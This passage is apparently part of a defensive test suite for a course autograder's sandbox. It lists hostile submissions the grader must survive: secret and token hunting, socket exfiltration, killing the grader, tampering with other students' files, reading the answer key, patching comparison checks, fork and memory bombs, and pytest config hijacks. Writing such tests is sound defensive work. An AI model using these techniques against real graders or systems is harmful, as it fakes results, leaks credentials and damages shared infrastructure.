        {LINEAR: COURSE_CONFIG_EDITED},
        needs="basic",
        targets=("grading.yml", "pyproject.toml"),
    ),
    # reaching the grader, other students, the network
    Attack(
        "proc_scanned",
        "a worker reads every /proc/<pid>/cmdline and environ and returns them in its "
        "messages (rule 2: no view of the grader's /proc)",
        "linear_model",
        {LINEAR: PROC_SCANNED},
        needs="strict",
        leaks=("autograder.cli",),
    ),
    Attack(
        "report_replaced_by_link",
        "a worker replaces the --json report with a link to another submission's file, for "
        "the grader to write through",
        "linear_model",
        {LINEAR: REPORT_LINKED},
    ),
    Attack(
        "terminal_forged",
        "a worker writes 'TOTAL 100 / 100' to the grader's stdout and stderr through "
        "/proc/<pid>/fd/1 and /dev/tty",
        "linear_model",
        {LINEAR: TERMINAL_FORGED},
        needs="basic",
    ),
    Attack(
        "grader_signalled",
        "a worker sends SIGSTOP, SIGTERM and SIGKILL to the grader and the zygote (and "
        "their process groups)",
        "linear_model",
        {LINEAR: GRADER_SIGNALLED},
        needs="strict",
    ),
    Attack(
        "other_submission_edited",
        "a worker appends to, deletes from and adds to another submission folder and the "
        "private copies in /tmp",
        "linear_model",
        {LINEAR: VICTIM_EDITED},
        needs="basic",
    ),
    Attack(
        "network_exfiltration",
        "a worker sends its inputs over TCP, UDP and an abstract unix socket to listeners "
        "on this machine",
        "linear_model",
        {LINEAR: NETWORK_EXFILTRATION},
        needs="strict",
    ),
    Attack(
        "secrets_hunted",
        "a worker looks for AUTOGRADER_SECRET and GITHUB_TOKEN (environment, every "
        "/proc/<pid>/environ, gc) and leaks them in exceptions, values and prints",
        "linear_model",
        {LINEAR: SECRETS_HUNTED},
        needs="basic",
    ),
    Attack(
        "daemon_left_behind",
        "a worker double-forks a detached daemon that keeps trying to write the grader's "
        "and another student's files",
        "linear_model",
        {LINEAR: DAEMON_LEFT_BEHIND},
        needs="strict",
    ),
    # reading the answer key
    Attack(
        "oracle_star_import",
        "from autograder.oracle.backprop import * in backprop.py (the oracle of a unit "
        "never reaches that unit's worker)",
        "backprop",
        {"backprop.py": ORACLE_STAR_IMPORT},
        needs="strict",
    ),
    Attack(
        "answer_key_in_memory",
        "imports solutions/oracle modules, scans sys.modules and gc for reference "
        "functions of the unit and calls them",
        "linear_model",
        {LINEAR: ANSWER_KEY_IN_MEMORY},
        needs="strict",
    ),
    Attack(
        "solutions_read_from_disk",
        "reads solutions/linear_model.py (and any copy it can find) and execs it",
        "linear_model",
        {LINEAR: SOLUTIONS_READ},
        needs="strict",
    ),
    # forbidden built-ins dodged
    Attack(
        "forbidden_in_the_source",
        "built-ins a task may not call, written so the static check must find them: "
        "getattr(torch, 'sig' + 'moid'), vars(torch)['tanh'], attrgetter of a joined name, "
        "helpers two calls away, a class, aliases (from F import softmax as _s, _r = "
        "getattr(F, 're' + 'lu')), torch.func.jacrev, torch.autograd.grad, .backward()",
        "activations",
        {ACTIVATIONS: FORBIDDEN_IN_THE_SOURCE},
    ),
    Attack(
        "forbidden_at_run_time",
        "built-ins looked up by names computed at run time (getattr(torch, name), "
        "F.__dict__[name], getattr(torch.autograd, name)): only the run-time watch sees them",
        "activations",
        {ACTIVATIONS: FORBIDDEN_AT_RUN_TIME},
    ),
    Attack(
        "forbidden_task_bound_to_builtin",
        "the task's own name bound at module level to the built-in: sigmoid = torch.sigmoid",
        "activations",
        {ACTIVATIONS: FORBIDDEN_TASK_BOUND_TO_BUILTIN},
    ),
    Attack(
        "forbidden_in_eval",
        "eval('torch.sigmoid(x)'): the call's frame is '<string>', not the student's file",
        "activations",
        {ACTIVATIONS: FORBIDDEN_EVAL},
    ),
    Attack(
        "forbidden_watch_switched_off",
        "a run-time name, called under torch._C.DisableTorchFunction()",
        "activations",
        {ACTIVATIONS: FORBIDDEN_WATCH_OFF},
    ),
    Attack(
        "forbidden_watch_patched",
        "a run-time name, with autograder.worker.server.watching replaced by a no-op",
        "activations",
        {ACTIVATIONS: FORBIDDEN_WATCH_PATCHED},
    ),
    # claims instead of values
    Attack(
        "numpy_checks_patched",
        "numpy.testing.assert_allclose & co, np.allclose, math.isclose, unittest and the "
        "grader's Comparer patched in the worker, with wrong values",
        "linear_model",
        {LINEAR: NUMPY_CHECKS_PATCHED},
    ),
    Attack(
        "torch_checks_patched",
        "torch.testing.assert_close, torch.allclose, torch.equal, Tensor.__eq__ patched, "
        "with wrong values",
        "activations",
        {ACTIVATIONS: TORCH_CHECKS_PATCHED},
    ),
    Attack(
        "builtins_patched",
        "isinstance, issubclass, all, any, abs and AssertionError replaced in builtins",
        "linear_model",
        {LINEAR: BUILTINS_PATCHED},
    ),
    Attack(
        "tensor_subclass_rigged",
        "a torch.Tensor subclass with __torch_function__, __eq__, __array__ and __bool__ "
        "rigged; one that claims to be torch.Tensor; an nn.Parameter",
        "activations",
        {ACTIVATIONS: TENSOR_SUBCLASS},
    ),
    Attack(
        "rigged_objects",
        "an ndarray subclass, a float subclass and an object whose __eq__, __array__ and "
        "ufuncs all agree",
        "linear_model",
        {LINEAR: RIGGED_OBJECTS},
    ),
    Attack(
        "nan_inf_arrays",
        "NaN and inf from every linear_model function",
        "linear_model",
        {LINEAR: NAN_INF_ARRAYS},
    ),
    Attack(
        "bad_tensors",
        "right values in the wrong dtype, on the meta device, as a numpy array, as a list; "
        "NaN and inf tensors",
        "activations",
        {ACTIVATIONS: WRONG_DTYPE_DEVICE + NAN_INF_TENSORS},
    ),
    # leaving early, hostile exceptions, a hostile wire
    Attack(
        "sys_exit_at_import",
        "sys.exit(0) while the module is imported",
        "linear_model",
        {LINEAR: "\nimport sys\n\nsys.exit(0)\n"},
    ),
    Attack(
        "os_exit_at_import",
        "os._exit(0) while the module is imported",
        "linear_model",
        {LINEAR: "\nimport os\n\nos._exit(0)\n"},
    ),
    Attack(
        "sigkill_self_at_import",
        "SIGKILL to itself while the module is imported",
        "linear_model",
        {LINEAR: "\nimport os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)\n"},
    ),
    Attack(
        "exits_in_calls",
        "sys.exit(0), os._exit(0) or SIGKILL (by input) inside forward; best_on_grid honest "
        "(costs only the task that exits)",
        "linear_model",
        {LINEAR: EXITS_IN_CALLS},
        expected=2,
    ),
    Attack(
        "hostile_exceptions",
        "KeyboardInterrupt, GeneratorExit, an exception whose str and repr raise, a 5 MB "
        "message (by input) from forward; best_on_grid honest",
        "linear_model",
        {LINEAR: HOSTILE_EXCEPTIONS},
        expected=2,
    ),
    Attack(
        "wire_forged",
        "forged frames on the worker's socket before the real reply (by input): a 2**62-byte "
        "reply, a tensor of 10**12 items over 8 bytes, JSON nested 5000 deep; best_on_grid "
        "honest",
        "linear_model",
        {LINEAR: WIRE_FORGED},
        expected=2,
    ),
    Attack(
        "wire_bombs",
        "forward returns (by input) a list nested 10000 deep, a million-item list, a 5 MB "
        "string; best_on_grid honest",
        "linear_model",
        {LINEAR: WIRE_BOMBS},
        expected=2,
    ),
    # runaway code
    Attack(
        "signals_ignored_endless_loop",
        "SIGTERM, SIGALRM, ... ignored and blocked around an endless loop in forward; the "
        "other functions honest",
        "linear_model",
        {LINEAR: SIGNALS_IGNORED},
        expected=6,
        limits=QUICK,
    ),
    Attack(
        "sleeps_under_the_limit",
        "every call sleeps just under the wall-clock backstop, then answers right "
        "(limits.submission_s stops it)",
        "linear_model",
        {LINEAR: SLEEPS_UNDER_THE_LIMIT},
        limits={"cpu_s": 0.5, "submission_s": 2},
    ),
    Attack(
        "memory_bomb",
        "allocates (and touches) memory until refused, 80 GB at once, a 64 GiB mmap, and "
        "keeps what it got",
        "linear_model",
        {LINEAR: MEMORY_BOMB},
        limits={"memory_mb": 512},
    ),
    Attack(
        "fork_bomb",
        "forks until refused, then spins (the process limit binds uid 65534, not root at 'none')",
        "linear_model",
        {LINEAR: FORK_BOMB},
        needs="basic",
        limits={"cpu_s": 2},
    ),
    Attack(
        "output_bomb",
        "prints 300 MiB to stdout and stderr, and writes as much to fds 1 and 2",
        "linear_model",
        {LINEAR: OUTPUT_BOMB},
    ),
    # files in the submission itself
    Attack(
        "submission_links_to_solutions",
        "linear_model.py imports from answers/, a link to solutions/; activations.py is a "
        "link to solutions/activations.py",
        "linear_model",
        {LINEAR: LINKED_ANSWERS},
        links={"answers": "{project}/solutions", ACTIVATIONS: "{project}/solutions/activations.py"},
    ),
    Attack(
        "submission_conftest",
        "conftest.py, pytest.ini, tox.ini, setup.cfg and pyproject.toml in the submission",
        "linear_model",
        {
            "conftest.py": SUBMISSION_CONFTEST,
            "pytest.ini": "[pytest]\naddopts = -p conftest -p no:autograder\n",
            "tox.ini": "[pytest]\naddopts = -p conftest\n",
            "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
        },
    ),
    Attack(
        "submission_sitecustomize_pth",
        "sitecustomize.py, usercustomize.py and a .pth file in the submission",
        "linear_model",
        {
            "sitecustomize.py": _marking("sitecustomize"),
            "usercustomize.py": _marking("usercustomize"),
            "00-attack.pth": "import os; " + _marking("pth"),
        },
    ),
    Attack(
        "submission_shadows_modules",
        "torch.py, numpy.py, pytest.py, hypothesis.py, yaml.py and an autograder/ package "
        "in the submission",
        "linear_model",
        {
            **{
                f"{name}.py": _marking(name, SHADOW)
                for name in ("torch", "numpy", "pytest", "hypothesis", "yaml")
            },
            "autograder/__init__.py": _marking("autograder-package", SHADOW),
            "autograder/scoring.py": _marking("autograder-scoring", SHADOW),
        },
    ),
)
